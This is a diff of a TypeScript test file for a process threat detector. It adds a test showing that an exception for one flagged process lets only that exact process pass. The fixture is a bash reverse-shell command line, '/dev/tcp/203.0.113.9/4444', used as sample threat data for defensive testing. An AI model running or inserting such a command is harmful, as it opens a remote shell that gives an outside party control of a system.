@@ -1,7 +1,8 @@
 // What may be allowed: a process that is listed as a threat, runs still, and has every fact that names it.
 import { describe, expect, test } from 'vitest';
 import type { ProcessFacts } from '../../../../core/contracts/processes.ts';
-import type { Threat, ThreatReport } from '../../../../core/contracts/threats.ts';
+import type { Threat, ThreatException, ThreatReport } from '../../../../core/contracts/threats.ts';
+import { threatsOf } from '../../../../detectors/process/threats/verdict/snapshot.ts';
 import { identify } from '../../../../web/server/threats/policy.ts';
 
 const hash = 'ab'.repeat(32);
@@ -36,6 +37,31 @@ test('it is named by its program, its arguments, what started it, and where it r
   const inside = { container: { name: 'shop' } };
   expect(judge({ facts: inside, threat: { container: 'shop' } })).toMatchObject({ named: { container: 'shop' } });
 });
+
+test.each([null, { name: 'shop' }])(
+  'what is named so is what the detector then lets pass, in container %j',
+  (container) => {
+    const argv = ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'];
+    const shell: ProcessFacts = { ...facts, argv, exe: '/usr/bin/bash', container };
+    const processes = [parent, shell, { ...shell, pid: 78, argv: [...argv, 'x'] }];
+    const judge = (exceptions: ThreatException[]) => threatsOf(processes, exceptions, 100);
+    const before = judge([]);
+    expect(before.threats.map(({ pid }) => pid)).toEqual([77, 78]);
+    const [listed] = before.threats;
+    const found = identify(
+      { instance: 'one', pid: listed!.pid, startedAtSeconds: listed!.startedAtSeconds },
+      { state: 'known', items: [report(before.threats)] },
+      processes,
+    );
+    expect(found.kind).toBe('known');
+    const end = { id: 'e', expiresAtSeconds: 200, reason: 'drill', owner: 'ops' };
+    const after = judge(found.kind === 'known' ? [{ ...found.named, ...end }] : []);
+    expect(after.threats.map(({ pid, allowedBy }) => [pid, allowedBy])).toEqual([
+      [77, 'e'],
+      [78, undefined],
+    ]);
+  },
+);
 
 describe('it cannot be allowed', () => {
   test.each([
